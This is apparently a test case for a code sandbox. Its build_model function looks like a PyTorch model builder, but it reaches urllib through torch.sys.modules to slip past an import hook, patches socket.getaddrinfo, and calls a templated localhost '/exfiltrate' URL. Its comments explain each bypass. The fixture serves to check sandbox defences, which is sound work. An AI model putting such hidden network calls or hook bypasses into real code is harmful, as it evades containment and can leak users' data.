# expect: build
# message: URLError: <urlopen error [Errno 101] Network is unreachable>
# message-hook: sandbox: urllib.Request is not allowed
# static: skip
# torch has imported urllib.request already: reach it through sys.modules, no import needed. Without
# the hook, the zygote's network namespace has no usable interface: the connection cannot start.
import math

import torch
import torch.nn as nn


def build_model(input_shape, num_classes):
    # Resolving a name needs the idna codec, which the sandbox uid cannot import: resolve it ourselves.
    torch.sys.modules["socket"].getaddrinfo = lambda host, port, *a, **k: [(2, 1, 6, "", ("127.0.0.1", port))]
    urlopen = torch.sys.modules["urllib.request"].urlopen
    urlopen("http://127.0.0.1:{{PORT}}/exfiltrate", timeout=2)
    return nn.Sequential(nn.Flatten(), nn.Linear(math.prod(input_shape), num_classes))
